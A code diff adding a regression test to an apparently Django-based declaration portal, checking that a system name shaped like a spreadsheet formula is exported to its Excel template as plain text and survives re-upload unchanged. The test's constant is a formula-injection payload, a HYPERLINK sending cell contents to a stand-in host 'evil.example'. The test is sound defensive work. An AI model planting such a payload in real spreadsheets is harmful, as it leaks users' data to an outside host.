@@ -108,6 +108,48 @@ def test_the_template_has_both_languages_headers_an_example_row_and_instructions
     assert "The system name is the key of each row" in instructions
 
 
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
+
+
+def test_a_name_like_a_formula_is_written_into_the_template_as_text_and_round_trips(filer, member):
+    """Issue 30: the name was written as a live formula, and the portal refused its own template."""
+    system = obligations.declare_system(
+        member.organization,
+        member.user,
+        name=FORMULA_NAME,
+        people_stored=5_000,
+        used_in_public_place=False,
+        count_reached_on=date(2026, 1, 5),
+    )
+    content = filer.get(url("system_bulk_template", member)).content
+    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    assert "<f " not in sheet_xml
+    cell = load_workbook(io.BytesIO(content)).worksheets[0]["A3"]
+    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
+    rows, _columns = bulk_declarations.read_rows(content)
+    assert [row.values["name"] for row in rows] == [FORMULA_NAME]
+    # Uploaded again as it came: the row is the same system, unchanged, and nothing is refused.
+    html = upload(filer, member, SimpleUploadedFile("t.xlsx", content)).content.decode()
+    assert "不接受公式" not in html
+    assert "该文件没有任何变化，无需确认" in html
+    # With a new number, it updates that system and keeps its name.
+    obligations.declare_system(
+        member.organization,
+        member.user,
+        name=FORMULA_NAME,
+        people_stored=7_000,
+        used_in_public_place=False,
+        count_reached_on=date(2026, 1, 5),
+        system=system,
+    )
+    response = upload(filer, member, SimpleUploadedFile("t.xlsx", content))
+    confirm(filer, member, token_of(response))
+    system.refresh_from_db()
+    assert (system.name, system.people_stored) == (FORMULA_NAME, 5_000)
+    assert member.organization.systems.count() == 1
+
+
 def test_a_valid_file_is_previewed_and_saved_only_when_confirmed(filer, member):
     response = upload(filer, member, xlsx(VALID))
     assert response.status_code == 200
